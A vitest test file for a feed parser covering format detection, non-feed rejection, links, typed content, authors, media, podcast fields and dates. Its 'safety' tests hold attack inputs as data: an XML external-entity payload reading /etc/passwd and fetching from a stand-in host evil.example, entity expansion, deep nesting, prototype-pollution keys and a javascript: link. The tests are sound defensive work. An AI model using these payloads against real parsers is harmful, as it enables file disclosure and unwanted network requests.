import { describe, expect, test } from 'vitest';
import type { Failure } from '../../../src/model/failure.ts';
import { readDocument } from '../../../src/parse/document.ts';
import { read } from '../../support/reading.ts';

async function failureOf(
  document: string | Uint8Array,
  location = 'https://example.org/page',
): Promise<Failure> {
  const bytes = typeof document === 'string' ? new TextEncoder().encode(document) : document;
  return readDocument(bytes, { location, contentType: 'application/rss+xml' }).then(
    () => Promise.reject(new Error('nothing was refused')),
    (failure: Failure) => failure,
  );
}

describe('dialects are told by their content', () => {
  const item = '<item><title>One</title><link>https://example.org/1</link></item>';

  test.each([
    ['RSS 2.0', `<rss version="2.0"><channel><title>Feed</title>${item}</channel></rss>`, 'rss'],
    ['RSS without a version', `<rss><channel><title>Feed</title>${item}</channel></rss>`, 'rss'],
    [
      'RSS 0.91 with a document type',
      `<!DOCTYPE rss SYSTEM "rss-0.91.dtd"><rss version="0.91"><channel><title>Feed</title>${item}</channel></rss>`,
      'rss',
    ],
    [
      'RSS in a namespace',
      `<rss xmlns="http://backend.userland.com/rss2"><channel><title>Feed</title>${item}</channel></rss>`,
      'rss',
    ],
    ['a channel without rss', `<channel><title>Feed</title>${item}</channel>`, 'rss'],
    [
      'RSS 1.0',
      `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"><channel rdf:about="x"><title>Feed</title></channel>${item}</rdf:RDF>`,
      'rdf',
    ],
    [
      'RSS 0.90',
      `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://my.netscape.com/rdf/simple/0.9/"><channel><title>Feed</title></channel>${item}</rdf:RDF>`,
      'rdf',
    ],
    [
      'RDF under another prefix',
      `<r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:s="http://purl.org/rss/1.0/"><s:channel><s:title>Feed</s:title></s:channel><s:item><s:title>One</s:title><s:link>https://example.org/1</s:link></s:item></r:RDF>`,
      'rdf',
    ],
    [
      'Atom 1.0',
      '<feed xmlns="http://www.w3.org/2005/Atom"><title>Feed</title><entry><title>One</title><link href="https://example.org/1"/></entry></feed>',
      'atom',
    ],
    [
      'Atom 1.0 under a prefix',
      '<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:title>Feed</a:title><a:entry><a:title>One</a:title><a:link href="https://example.org/1"/></a:entry></a:feed>',
      'atom',
    ],
    [
      'Atom under the document type of HTML',
      '<!DOCTYPE html><feed xmlns="http://www.w3.org/2005/Atom"><title>Feed</title><entry><title>One</title><link href="https://example.org/1"/></entry></feed>',
      'atom',
    ],
    [
      'Atom 0.3',
      '<feed version="0.3" xmlns="http://purl.org/atom/ns#"><title>Feed</title><entry><title>One</title><link rel="alternate" href="https://example.org/1"/></entry></feed>',
      'atom',
    ],
    [
      'CDF',
      '<CHANNEL HREF="https://example.org/"><TITLE>Feed</TITLE><ITEM HREF="https://example.org/1"><TITLE>One</TITLE></ITEM></CHANNEL>',
      'cdf',
    ],
    [
      'JSON Feed',
      '{"version":"https://jsonfeed.org/version/1.1","title":"Feed","items":[{"id":"1","title":"One","url":"https://example.org/1"}]}',
      'json',
    ],
  ])('%s', async (_, document, format) => {
    const view = await read(document, 'https://example.org/feed', 'text/html');
    expect(view).toMatchObject({ format, title: 'Feed' });
    expect(view.items).toMatchObject([{ title: 'One', url: 'https://example.org/1' }]);
  });
});

describe('what is no feed', () => {
  test.each([
    ['nothing', '', 'empty'],
    ['white space', ' \n\t', 'empty'],
    ['a picture', Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a]), 'binary'],
    ['a gzip archive', Uint8Array.from([0x1f, 0x8b, 8, 0]), 'binary'],
    ['prose', 'Hello, this is no feed.', 'not-a-feed'],
    ['another XML document', '<svg xmlns="http://www.w3.org/2000/svg"><title>x</title></svg>', 'not-a-feed'],
    ['other JSON', '{"hello":"world"}', 'not-a-feed'],
    ['broken JSON', '{"hello": ', 'malformed'],
    ['a web page', '<!doctype html><html><body>Hi</body></html>', 'html-page'],
    [
      'more entries than anybody has',
      `<rss><channel>${'<item/>'.repeat(20_001)}</channel></rss>`,
      'too-many',
    ],
  ])('%s', async (_, document, code) => {
    expect(await failureOf(document)).toMatchObject({ name: 'Failure', code });
  });

  test('a web page: the Failure names the feeds that the page names', async () => {
    const page = `<html><head><link rel="alternate" type="application/rss+xml" href="/feed.xml?a=1&amp;b=2" title="x">
      <link rel=alternate type=application/atom+xml href='https://other.example/atom'>
      <link rel="stylesheet" href="/a.css"><link rel="alternate" hreflang="de" href="/de"></head></html>`;
    const failure = await failureOf(page);
    expect(failure.message).toContain('https://example.org/feed.xml?a=1&b=2');
    expect(failure.advice).toContain('https://example.org/feed.xml?a=1&b=2');
    expect(failure.facts).toEqual({
      feeds: 'https://example.org/feed.xml?a=1&b=2 https://other.example/atom',
      found: 2,
    });
  });

  test('a web page that names none: the Failure says where feeds often are', async () => {
    expect((await failureOf('<html><head></head></html>')).advice).toContain('https://example.org/feed');
  });

  test('a page within an item does not make the feed a page', async () => {
    const view = await read(
      '<rss><channel><item><description><![CDATA[<html><body>x</body></html>]]></description></item></channel></rss>',
    );
    expect(view.items).toHaveLength(1);
  });
});

describe('ids and addresses', () => {
  test.each([
    [
      'a guid that is a permalink',
      '<guid>https://example.org/a</guid>',
      'https://example.org/a',
      'https://example.org/a',
    ],
    [
      'a guid that is none',
      '<guid isPermaLink="false">https://example.org/a</guid><link>https://example.org/b</link>',
      'https://example.org/a',
      'https://example.org/b',
    ],
    [
      'a guid that only looks unlike one',
      '<guid>tag:example.org,2025:1</guid>',
      'tag:example.org,2025:1',
      null,
    ],
    [
      'a link before a guid',
      '<guid>https://example.org/a</guid><link>https://example.org/b</link>',
      'https://example.org/a',
      'https://example.org/b',
    ],
    ['a relative link', '<link>/b</link>', null, 'https://example.org/b'],
    ['a script as a link', '<link>javascript:alert(1)</link>', null, null],
  ])('RSS: %s', async (_, item, id, url) => {
    const view = await read(`<rss><channel><item>${item}</item></channel></rss>`);
    expect(view.items[0]).toMatchObject({ id, url });
  });

  test.each([
    [
      'the HTML alternate first',
      '<link rel="alternate" type="application/json" href="/a.json"/><link rel="alternate" type="text/html" href="/a"/>',
      'https://example.org/a',
    ],
    ['no relation means alternate', '<link rel="self" href="/s"/><link href="/a"/>', 'https://example.org/a'],
    [
      'a relation by its registry',
      '<link rel="http://www.iana.org/assignments/relation/alternate" href="/a"/>',
      'https://example.org/a',
    ],
    ['no link but an id that is an address', '<id>https://example.org/id</id>', 'https://example.org/id'],
  ])('Atom: %s', async (_, links, url) => {
    const view = await read(`<feed xmlns="http://www.w3.org/2005/Atom"><entry>${links}</entry></feed>`);
    expect(view.items[0]?.url).toBe(url);
  });

  test('xml:base is kept in scope, down into markup', async () => {
    const view =
      await read(`<feed xmlns="http://www.w3.org/2005/Atom" xml:base="/a/"><entry xml:base="b/"><link href="c"/>
      <content type="xhtml" xml:base="d/"><div xmlns="http://www.w3.org/1999/xhtml"><p xml:base="e/"><a href="f">x</a></p><a href="g">y</a></div></content>
      </entry><entry><link href="h"/></entry></feed>`);
    expect(view.items.map(({ url }) => url)).toEqual([
      'https://example.org/a/b/c',
      'https://example.org/a/h',
    ]);
    expect(view.items[0]?.content).toContain('href="https://example.org/a/b/d/e/f"');
    expect(view.items[0]?.content).toContain('href="https://example.org/a/b/d/g"');
  });

  test('RSS, RDF and Atom links with other relations are kept', async () => {
    const view = await read(`<feed xmlns="http://www.w3.org/2005/Atom"><entry><link href="/a"/>
      <link rel="related" href="/r" title="More"/><link rel="replies" type="text/html" href="/c"/></entry></feed>`);
    expect(view.items[0]).toMatchObject({ comments: 'https://example.org/c' });
    expect(view.items[0]?.links.map(({ rel }) => rel)).toEqual(['related', 'replies']);
  });
});

describe('titles and texts by their type', () => {
  async function atom(element: string): Promise<{ title: string | null; content: string | null }> {
    const view = await read(`<feed xmlns="http://www.w3.org/2005/Atom"><entry>${element}</entry></feed>`);
    return { title: view.items[0]?.title ?? null, content: view.items[0]?.content ?? null };
  }

  test.each([
    ['text is text', '<title>1 &lt; 2 &lt;b&gt;</title>', '1 < 2 <b>'],
    ['html is not', '<title type="html">1 &amp;lt; 2 &lt;b&gt;bold&lt;/b&gt;</title>', '1 < 2 bold'],
    [
      'xhtml',
      '<title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">1 &lt; 2 <b>bold</b></div></title>',
      '1 < 2 bold',
    ],
    ['html in CDATA', '<title type="html"><![CDATA[Q&amp;A <i>x</i>]]></title>', 'Q&A x'],
    ['base64', '<title type="application/octet-stream">SGVsbG8=</title>', 'Hello'],
    ['a MIME type', '<title type="text/html">a &lt;b&gt;b&lt;/b&gt;</title>', 'a b'],
  ])('titles: %s', async (_, element, title) => {
    expect(await atom(element)).toMatchObject({ title });
  });

  test.each([
    ['text is escaped', '<content>1 &lt; 2</content>', '1 &lt; 2'],
    ['html', '<content type="html">&lt;p&gt;x&lt;/p&gt;</content>', '<p>x</p>'],
    [
      'xhtml without its div',
      '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>x &amp; y<br/></p></div></content>',
      '<p>x &amp; y<br /></p>',
    ],
    [
      'xhtml under a prefix',
      '<content type="xhtml"><h:div xmlns:h="http://www.w3.org/1999/xhtml"><h:p/>x</h:div></content>',
      '<p></p>x',
    ],
    [
      'two divs are no outer one',
      '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">a</div><div>b</div></content>',
      '<div>a</div><div>b</div>',
    ],
    [
      'escaped HTML in a div',
      '<content type="html"><div xmlns="http://www.w3.org/1999/xhtml">&lt;p&gt;x&lt;/p&gt;</div></content>',
      '<p>x</p>',
    ],
    ['Atom 0.3, base64', '<content type="text/html" mode="base64">PHA+eDwvcD4=</content>', '<p>x</p>'],
  ])('contents: %s', async (_, element, content) => {
    expect(await atom(element)).toMatchObject({ content });
  });

  test.each([
    ['a title with markup', '<title>A &lt;b&gt;bold&lt;/b&gt; move</title>', 'A bold move'],
    ['a title about a type', '<title>Vec&lt;T&gt; explained</title>', 'Vec<T> explained'],
    ['a title escaped twice', '<title>Q&amp;amp;A</title>', 'Q&A'],
    ['a title in CDATA', '<title><![CDATA[ Q&A ]]></title>', 'Q&A'],
  ])('RSS: %s', async (_, element, title) => {
    const view = await read(`<rss><channel><item>${element}</item></channel></rss>`);
    expect(view.items[0]?.title).toBe(title);
  });

  test('summary and content both', async () => {
    const view = await read(`<rss xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
      <item><description>Short</description><content:encoded><![CDATA[<p>Long</p>]]></content:encoded></item>
      <item><description>Only</description></item></channel></rss>`);
    expect(view.items).toMatchObject([
      { summary: 'Short', content: '<p>Long</p>' },
      { summary: 'Only', content: 'Only' },
    ]);
  });
});

describe('persons, categories, files', () => {
  test.each([
    [
      'mail and name',
      '<author>jo@example.org (Jo Doe)</author>',
      { name: 'Jo Doe', email: 'jo@example.org' },
    ],
    [
      'name and mail',
      '<author>Jo Doe &lt;jo@example.org&gt;</author>',
      { name: 'Jo Doe', email: 'jo@example.org' },
    ],
    ['mail only', '<author>jo@example.org</author>', { name: null, email: 'jo@example.org' }],
    ['Dublin Core', '<dc:creator>Jo Doe</dc:creator>', { name: 'Jo Doe', email: null }],
    ['iTunes, where nobody else is named', '<itunes:author>Jo Doe</itunes:author>', { name: 'Jo Doe' }],
    [
      'an Atom person',
      '<author><name>Jo Doe</name><email>jo@example.org</email><uri>/jo</uri></author>',
      { name: 'Jo Doe', email: 'jo@example.org', url: 'https://example.org/jo' },
    ],
  ])('%s', async (_, element, person) => {
    const view = await read(`<rss><channel><item>${element}</item></channel></rss>`);
    expect(view.items[0]?.authors).toMatchObject([person]);
  });

  test('all authors, each once', async () => {
    const view = await read(
      '<rss><channel><item><dc:creator>A</dc:creator><dc:creator>B</dc:creator><dc:creator>A</dc:creator></item></channel></rss>',
    );
    expect(view.items[0]?.authors.map(({ name }) => name)).toEqual(['A', 'B']);
  });

  test('categories of every vocabulary, with scheme and label', async () => {
    const document = `<rss><channel><item><category domain="https://example.org/c">One</category><category term="two" label="Two"/>
      <dc:subject>Three</dc:subject><itunes:keywords>four, five</itunes:keywords></item></channel></rss>`;
    expect((await read(document)).items[0]?.categories).toEqual([
      'One',
      'two',
      'Two',
      'Three',
      'four',
      'five',
    ]);
    const raw = await readDocument(new TextEncoder().encode(document), { location: '', contentType: null });
    expect(raw.entries[0]?.categories?.[0]).toMatchObject({ term: 'One', scheme: 'https://example.org/c' });
  });

  test('enclosures, Atom links and media', async () => {
    const view =
      await read(`<rss xmlns:media="http://search.yahoo.com/mrss/" xmlns:atom="http://www.w3.org/2005/Atom"><channel><item>
      <enclosure url="/a.mp3" type="audio/mpeg" length="1,234"/><atom:link rel="enclosure" href="/b.ogg"/>
      <media:group><media:content url="/c.mp4" type="video/mp4" medium="video" duration="65" width="640" height="360"/>
      <media:thumbnail url="/t.jpg"/></media:group></item></channel></rss>`);
    expect(view.items[0]).toMatchObject({
      enclosures: [
        { url: 'https://example.org/a.mp3', type: 'audio/mpeg', length: 1234 },
        { url: 'https://example.org/b.ogg', type: null, length: null },
      ],
      media: [{ url: 'https://example.org/c.mp4', medium: 'video', duration: 65, width: 640, height: 360 }],
      image: 'https://example.org/t.jpg',
    });
  });

  test('a podcast episode', async () => {
    const view =
      await read(`<rss xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" xmlns:podcast="https://podcastindex.org/namespace/1.0"><channel><item>
      <itunes:duration>1:02:05</itunes:duration><itunes:episode>7</itunes:episode><itunes:season>2</itunes:season>
      <itunes:episodeType>Full</itunes:episodeType><itunes:explicit>clean</itunes:explicit>
      <podcast:transcript url="/t.vtt" type="text/vtt" language="en"/><podcast:chapters url="/c.json" type="application/json+chapters"/></item></channel></rss>`);
    expect(view.items[0]?.podcast).toEqual({
      duration: 3725,
      episode: 7,
      season: 2,
      episodeType: 'full',
      explicit: false,
      transcripts: [{ url: 'https://example.org/t.vtt', type: 'text/vtt', language: 'en' }],
      chapters: { url: 'https://example.org/c.json', type: 'application/json+chapters' },
    });
  });

  test('the source that an item names', async () => {
    const view = await read(
      '<rss><channel><item><source url="https://other.example/feed">Other</source></item></channel></rss>',
    );
    expect(view.items[0]?.source).toEqual({
      id: null,
      title: 'Other',
      url: 'https://other.example/feed',
      link: null,
    });
  });
});

describe('dates', () => {
  test('published apart from updated', async () => {
    const view = await read(
      '<feed xmlns="http://www.w3.org/2005/Atom"><entry><published>2025-01-02T03:04:05Z</published><updated>2025-02-03T04:05:06+01:00</updated></entry></feed>',
    );
    expect(view.items[0]).toMatchObject({
      published: '2025-01-02T03:04:05.000Z',
      updated: '2025-02-03T03:05:06.000Z',
    });
  });

  test('an impossible date is null and a warning, never now', async () => {
    const view = await read(
      '<rss><channel><item><pubDate>Mon, 31 Feb 2025 10:00:00 GMT</pubDate></item></channel></rss>',
    );
    expect(view.items[0]).toMatchObject({ published: null, updated: null });
    expect(view.warnings.map(({ code }) => code)).toEqual(['date-impossible']);
  });
});

describe('safety', () => {
  test('entities are not expanded into each other, external ones not at all', async () => {
    const view =
      await read(`<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "https://evil.example/">%d;]>
      <rss><channel><item><title>&a; &b; &c;</title></item></channel></rss>`);
    expect(view.items[0]?.title).toBe('aaaa &b; &c;');
  });

  test('nesting beyond all measure is left out, the items stay', async () => {
    const view = await read(
      `<rss><channel><title>Feed</title>${'<x>'.repeat(5000)}<item><title>One</title><description>${'<b>'.repeat(5000)}deep</description></item></channel></rss>`,
    );
    expect(view).toMatchObject({ title: 'Feed', items: [{ title: 'One' }] });
    expect(view.items[0]?.content?.match(/<b>/g)?.length).toBe(256);
    expect(view.warnings.map(({ code }) => code)).toContain('too-deep');
  });

  test('a hundred thousand fields in elements that never end are read without an error', async () => {
    const level = `<x>${'<y/>'.repeat(1000)}`;
    const view = await read(
      `<rss><channel><item><title>One</title>${level.repeat(100)}</item><item><title>Two</title></item></channel></rss>`,
    );
    expect(view.items.map(({ title }) => title)).toEqual(['One', 'Two']);
  });

  test('keys that matter to JavaScript are names like others', async () => {
    const view = await read(
      '<rss><channel><__proto__><constructor>x</constructor></__proto__><item toString="x" __proto__="y"><title>One</title></item></channel></rss>',
    );
    expect(view.items[0]?.title).toBe('One');
  });
});
